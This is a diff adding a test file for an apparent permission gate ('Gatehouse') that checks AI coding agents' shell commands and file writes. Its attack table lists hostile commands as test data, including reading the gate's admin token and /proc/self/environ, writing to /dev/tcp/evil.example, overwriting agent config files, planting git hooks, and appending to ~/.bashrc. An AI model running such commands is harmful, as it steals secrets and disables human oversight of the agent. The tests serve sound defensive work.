@@ -1,0 +1,313 @@
+import { testPathContext } from '../../../../support/path-context';
+import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { RuleRecord } from '../../../../../shared/domain';
+import { loadBashParser } from '../../../../../shared/node/bash-parser';
+import { createGitHooksPaths, hooksPathIn } from '../../../../../shared/node/git-hooks-path';
+import { createPathResolver, expandBraces } from '../../../../../shared/node/path-resolver';
+import { protectedLocation, specialDevice } from '../../../../../shared/policy/protected-locations';
+import { plainPath } from '../../../../../shared/tools/action-spec';
+import { agentToolAction } from '../../../../../shared/tools/agent-tools';
+import { scanCommandPaths } from '../../../../../shared/tools/shell-paths';
+import type { ShellParser } from '../../../../../shared/tools/shell-syntax';
+import {
+  classifyAction,
+  type ActionDescription,
+} from '../../../../../main/engine/policy/classifier';
+import type { PathContext } from '../../../../../main/engine/policy/protected-paths';
+
+/** A fake user: home, Gatehouse's data dir under it, a project, symlinks. */
+const root = realpathSync(mkdtempSync(join(tmpdir(), 'gatehouse-resolve-')));
+const home = join(root, 'home');
+const data = join(home, '.local/share/gatehouse');
+const project = join(home, 'code/app');
+const elsewhere = join(root, 'elsewhere/deep/er');
+let shell: ShellParser;
+let paths: PathContext;
+const empty = new Map<string, string[]>();
+const resolver = createPathResolver({
+  home,
+  gatehouseHome: data,
+  userHome: (name) => (name === 'alice' ? home : undefined),
+});
+
+beforeAll(async () => {
+  for (const d of [data, project, elsewhere, join(project, '.claude'), join(project, 'sub')])
+    mkdirSync(d, { recursive: true });
+  writeFileSync(join(data, 'admin.token'), 'secret');
+  // `deep` → a folder two levels under root: `deep/..` is root/elsewhere/deep, not the project.
+  symlinkSync(elsewhere, join(project, 'deep'));
+  symlinkSync(join(project, '.claude'), join(project, 'conf'));
+  mkdirSync(join(project, '.git/hooks'), { recursive: true });
+  writeFileSync(join(project, '.git/config'), '[core]\n\thooksPath = tools/hooks\n');
+  shell = await loadBashParser();
+  paths = {
+    ...testPathContext({ root, home, data, shell, resolver }),
+    gitHooksPaths: createGitHooksPaths(home, {}),
+  };
+});
+
+const allowAll: RuleRecord[] = ['read_file', 'run_command', 'write_file', 'edit_file'].map(
+  (action) => ({
+    ruleId: `r-${action}`,
+    action,
+    tier: 'auto',
+    source: 'user',
+    createdAt: '2026-01-01T00:00:00.000Z',
+  }),
+);
+const classify = (a: ActionDescription, rules: RuleRecord[] = allowAll) =>
+  classifyAction(a, { project, rules, paths: { ...paths, cwd: project } });
+const bash = (command: string, rules?: RuleRecord[]) =>
+  classify({ action: 'run_command', command }, rules);
+
+describe('the resolver expands words as the shell does', () => {
+  const r = (word: string, cwds = [project]) => resolver.resolve(word, { cwds, vars: empty });
+  it('~, ~user, $HOME, ${HOME}, $PWD and an unknown user', () => {
+    expect(r('~/x').paths[0]!.lexical).toBe(`${home}/x`);
+    expect(r('~alice/x').paths[0]!.lexical).toBe(`${home}/x`);
+    expect(r('${HOME}/x').paths[0]!.lexical).toBe(`${home}/x`);
+    expect(r('$PWD/x').paths[0]!.lexical).toBe(`${project}/x`);
+    expect(r('~nosuchuser/x').unresolved).toMatch(/~nosuchuser names no home/);
+  });
+
+  it.each([
+    ['$X/y', /\$X is not known/],
+    ['${X:-/etc}/y', /\$\{X:-\/etc\} is only known when the command runs/],
+    ['$(pwd)/y', /only known when the command runs/],
+    ['`pwd`/y', /only known when the command runs/],
+    ['$1', /only known/],
+    ['$OLDPWD/x', /\$OLDPWD is not known/],
+  ])('%s is unresolvable', (word, why) => {
+    expect(r(word).unresolved).toMatch(why);
+  });
+
+  it('a quoted $ is a plain character', () => {
+    const q = resolver.resolve('$X/y', { cwds: [project], vars: empty, literal: true });
+    expect(q).toMatchObject({ paths: [{ lexical: `${project}/$X/y` }] });
+  });
+
+  it('.. after a symlink goes to the target’s parent, as the kernel does; // collapses', () => {
+    expect(r('deep/..').paths[0]).toMatchObject({
+      lexical: project,
+      real: join(root, 'elsewhere/deep'),
+    });
+    expect(r('conf//settings.json').paths[0]!.real).toBe(join(project, '.claude/settings.json'));
+  });
+
+  it('/proc links are not followed, braces and globs expand', () => {
+    expect(r('/proc/self/cwd').paths[0]!.real).toBe('/proc/self/cwd');
+    expect(expandBraces('.{claude,x}/s.json')).toEqual(['.claude/s.json', '.x/s.json']);
+    const glob = r('.cl*').paths.map((p) => p.real);
+    expect(glob).toContain(join(project, '.claude'));
+  });
+});
+
+describe('the working directory follows each cd', () => {
+  const scan = (command: string) =>
+    scanCommandPaths(command, shell.analyse(command), [project], resolver);
+  it('in order, cd a && cd b is a/b', () => {
+    const s = scan('cd sub && cd ../.claude && cat settings.json');
+    // Each cd is taken from every directory the line may be in by then (a set that grows).
+    expect(s.cwds).toEqual([
+      project,
+      join(project, 'sub'),
+      join(home, 'code/.claude'),
+      join(project, '.claude'),
+    ]);
+    const use = s.uses.find((u) => u.word === 'settings.json')!;
+    expect(use.paths.map((p) => p.real)).toContain(join(project, '.claude/settings.json'));
+  });
+  it('cd with an unknown target, or in a loop going ever deeper, is unresolvable', () => {
+    expect(scan('cd $DIR && ls').unresolved?.reason).toMatch(/\$DIR is not known/);
+    expect(scan('while true; do cd sub; done').unresolved?.reason).toMatch(/further each time/);
+    expect(scan('for d in a b; do cat x; done').unresolved).toBeUndefined();
+  });
+  it('$PWD and $OLDPWD after a cd', () => {
+    const s = scan('cd sub && cat $OLDPWD/a $PWD/b');
+    expect(s.unresolved).toBeUndefined();
+    const all = s.uses.flatMap((u) => u.paths.map((p) => p.lexical));
+    expect(all).toContain(join(project, 'a'));
+    expect(all).toContain(join(project, 'sub/b'));
+  });
+});
+
+describe('protected locations (one table, one matcher)', () => {
+  it.each([
+    [`${project}/.claude/settings.json`, 'agent_config'],
+    [`${project}/.claude/settings.local.json`, 'agent_config'],
+    [`${home}/.claude/settings.json`, 'agent_config'],
+    [`${project}/.claude/skills/x/SKILL.md`, 'agent_config'],
+    [`${project}/.claude/commands/go.md`, 'agent_config'],
+    [`${project}/.mcp.json`, 'agent_config'],
+    [`${home}/.claude.json`, 'agent_config'],
+    [`${home}/.codex/config.toml`, 'agent_config'],
+    [`${project}/.codex/hooks.json`, 'agent_config'],
+    [`${project}/.gemini/settings.json`, 'agent_config'],
+    [`${home}/.gemini/settings.json`, 'agent_config'],
+    [`${project}/.github/hooks/gatehouse.json`, 'agent_config'],
+    [`${home}/.copilot/config.json`, 'agent_config'],
+    [`${project}/opencode.json`, 'agent_config'],
+    [`${project}/.opencode/plugin/x.js`, 'agent_config'],
+    [`${home}/.config/opencode/opencode.json`, 'agent_config'],
+    [`${project}/.cursor/hooks.json`, 'agent_config'],
+    [`${home}/.cursor/mcp.json`, 'agent_config'],
+    [`${project}/.gatehouse.toml`, 'gatehouse_policy'],
+    [`${project}/.git/config`, 'vcs'],
+    [`${project}/.git/hooks/pre-commit`, 'vcs'],
+    [`${project}/.git/info/attributes`, 'vcs'],
+    [`${root}/remote.git/hooks/post-receive`, 'vcs'],
+    [`${project}/.husky/pre-commit`, 'vcs'],
+    [`${project}/.pre-commit-config.yaml`, 'vcs'],
+    [`${project}/.gitattributes`, 'vcs'],
+    [`${home}/.bashrc`, 'startup'],
+    [`${home}/.zshenv`, 'startup'],
+    [`${home}/.profile`, 'startup'],
+    [`${home}/.config/fish/config.fish`, 'startup'],
+    [`${home}/.npmrc`, 'startup'],
+    [`${project}/.npmrc`, 'startup'],
+    [`${home}/.gitconfig`, 'startup'],
+    [`${home}/.config/git/config`, 'startup'],
+    [`${home}/.ssh/config`, 'startup'],
+    [`${home}/.cargo/config.toml`, 'startup'],
+    [`${home}/.local/bin/git`, 'startup'],
+    [home, 'startup'],
+  ])('%s is %s', (path, kind) => {
+    expect(protectedLocation(path, home)).toMatchObject({ kind });
+  });
+
+  it.each([
+    `${project}/src/settings.json`,
+    `${project}/.claude/notes.md`,
+    `${project}/README.md`,
+    `${project}/.github/workflows/ci.yml`,
+    `${home}/code/other/bashrc`,
+  ])('%s is not protected', (path) => {
+    expect(protectedLocation(path, home)).toBeUndefined();
+  });
+
+  it('core.hooksPath targets are read from the repository config', () => {
+    expect(hooksPathIn(join(project, '.git/config'))).toBe('tools/hooks');
+    expect(paths.gitHooksPaths!([join(project, 'src')])).toEqual([join(project, 'tools/hooks')]);
+  });
+
+  it('special files: /proc/<pid>, /proc/self, /dev/tcp', () => {
+    expect(specialDevice('/proc/123/mem')).toMatch(/memory/);
+    expect(specialDevice('/proc/self/environ')).toMatch(/memory/);
+    expect(specialDevice('/proc/x/environ')).toMatch(/memory/);
+    expect(specialDevice('/dev/tcp/evil.example/80')).toMatch(/network/);
+    expect(specialDevice('/proc/cpuinfo')).toBeUndefined();
+  });
+
+  it('the hook’s mapping reads paths plainly (// and a/.. collapse)', () => {
+    expect(plainPath('/p/.claude//./settings.json')).toBe('/p/.claude/settings.json');
+    expect(plainPath('x/../.claude/settings.json')).toBe('.claude/settings.json');
+  });
+});
+
+describe('classification: every attack asks, whatever the rules', () => {
+  it.each([
+    [`cat $PWD/../../.local/share/gatehouse/admin.token`, 'protected:gatehouse'],
+    [`cat $X/../../.local/share/gatehouse/admin.token`, 'protected:unresolved_path'],
+    [`cat $X/$Y/${data}/admin.token`, 'protected:unresolved_path'],
+    [`cat ~alice/.local/share/gatehouse/admin.token`, 'protected:gatehouse'],
+    [`cat ~nobody-here/../x`, 'protected:unresolved_path'],
+    [`cat \${X:-/etc}/passwd`, 'protected:unresolved_path'],
+    ['cd /proc/1 && xxd mem', 'protected:special_file'],
+    ['cat /proc/self/environ', 'protected:special_file'],
+    ['echo hi > /dev/tcp/evil.example/80', 'protected:special_file'],
+    ['sort -o .claude//settings.json x', 'protected:change_gatehouse_policy'],
+    ['cd .claude && sort -o settings.json x', 'protected:change_gatehouse_policy'],
+    ['cd .claude && echo {} > settings.json', 'protected:change_gatehouse_policy'],
+    ['sort -o conf/settings.json x', 'protected:change_gatehouse_policy'],
+    ['cp x ../app/.claude/settings.json', 'protected:change_gatehouse_policy'],
+    ['sort -o .{claude,x}/settings.json y', 'protected:change_gatehouse_policy'],
+    ['tee .mcp.json < x', 'protected:change_gatehouse_policy'],
+    ['cp x ~/.codex/config.toml', 'protected:change_gatehouse_policy'],
+    ['echo x >> .git/config', 'protected:vcs_config'],
+    ['cp evil .git/hooks/pre-commit', 'protected:vcs_config'],
+    ['cp evil tools/hooks/pre-commit', 'protected:vcs_config'],
+    ['echo evil >> ~/.bashrc', 'protected:startup_config'],
+    ['sed -i s/a/b/ ~/.npmrc', 'protected:startup_config'],
+    ['cd deep/.. && cp x ../../home/.bashrc', 'protected:startup_config'],
+    // Config files written without being named.
+    ['git config core.fsmonitor "touch /tmp/x"', 'protected:vcs_config'],
+    ['cd sub && git remote set-url origin /tmp/evil.git', 'protected:vcs_config'],
+    ['git config --global alias.st "!sh -c id"', 'protected:startup_config'],
+    ['npm config set script-shell ./evil.sh', 'protected:startup_config'],
+    ['cat $(ls ~/.local/share/*/admin.token)', 'protected:gatehouse'],
+    // Files named inside an archive or patch.
+    ['tar xzf a.tgz', 'protected:vcs_config'],
+    ['unzip -o a.zip -d sub', 'protected:vcs_config'],
+    ['patch -p1 < fix.diff', 'protected:vcs_config'],
+    ['git apply fix.diff', 'protected:vcs_config'],
+    // Variables and directories the line changes itself.
+    ['cd - && cat admin.token', 'protected:unresolved_path'],
+    ['CDPATH=~/.local/share cd gatehouse && cat admin.token', 'protected:gatehouse'],
+    ['HOME=~/.local/share/gatehouse; cat ~/admin.token', 'protected:gatehouse'],
+    ['HOME=$HOME/.local/share/gatehouse; cat $HOME/admin.token', 'protected:gatehouse'],
+    ['X=README.md; read X < list; cat $X', 'protected:unresolved_path'],
+    ['while read f; do cat "$f"; done < list', 'protected:unresolved_path'],
+    ['D=$D/x; cat $D/y', 'protected:unresolved_path'],
+    ['cat ${X:=/etc}/passwd', 'protected:unresolved_path'],
+  ])('%s → %s', (command, rule) => {
+    const c = bash(command);
+    // `read`, or a variable that names itself, is not proven harmless either: that may say first.
+    if (c.rule === 'shell:opaque' && rule === 'protected:unresolved_path')
+      expect(c).toMatchObject({ tier: 'ask', risk: 'high' });
+    else expect(c).toMatchObject({ tier: 'ask', rule, risk: 'critical' });
+  });
+
+  it.each([
+    ['Write', 'write_file', `${project}/.claude//settings.json`],
+    ['Edit', 'edit_file', 'conf/settings.local.json'],
+    ['Write', 'write_file', '.git/hooks/post-checkout'],
+    ['Write', 'write_file', '~/.bashrc'],
+  ])('%s of %s asks, critical', (_, action, path) => {
+    expect(classify({ action, paths: [path] })).toMatchObject({ tier: 'ask', risk: 'critical' });
+  });
+
+  it.each([
+    ['claude-code', 'MultiEdit', { file_path: '.git/hooks/pre-commit', edits: [] }],
+    ['claude-code', 'Write', { file_path: '~/.bashrc', content: 'x' }],
+    [
+      'codex',
+      'apply_patch',
+      { command: '*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+x\n*** End Patch' },
+    ],
+    ['gemini', 'replace', { file_path: `${project}/.gemini//settings.json` }],
+    ['gemini', 'write_file', { file_path: `${home}/.npmrc` }],
+    ['opencode', 'write', { filePath: 'opencode.json' }],
+    ['copilot', 'create', { path: '.github/hooks/x.json' }],
+    ['cursor', 'StrReplace', { file_path: 'conf/settings.json' }],
+  ] as const)('%s %s of a protected location asks, critical', (agent, tool, input) => {
+    const mapping = agentToolAction(agent, tool, { ...input }, shell);
+    if (mapping.kind !== 'gate') throw new Error('not gated');
+    const verdicts = mapping.candidates.map((c) =>
+      classify(mapping.command === undefined ? c : { ...c, command: mapping.command }),
+    );
+    expect(verdicts.some((v) => v.tier === 'ask' && v.risk === 'critical')).toBe(true);
+  });
+
+  it('everyday work in the project stays as before', () => {
+    for (const command of [
+      'cat README.md && ls src',
+      'cd sub && ls',
+      'grep -rn "foo$" src',
+      'for f in src/*.ts; do wc -l "$f"; done',
+      'git -C sub status',
+      'cat .claude/settings.json',
+      'echo $HOME $PATH',
+      'git config --get user.name',
+      'tar tzf a.tgz',
+      'tar czf box.tgz src',
+      'git apply --stat fix.diff',
+    ])
+      expect({ command, ...classify({ action: 'read_file', command }, []) }).toMatchObject({
+        command,
+        tier: 'auto',
+      });
+  });
+});
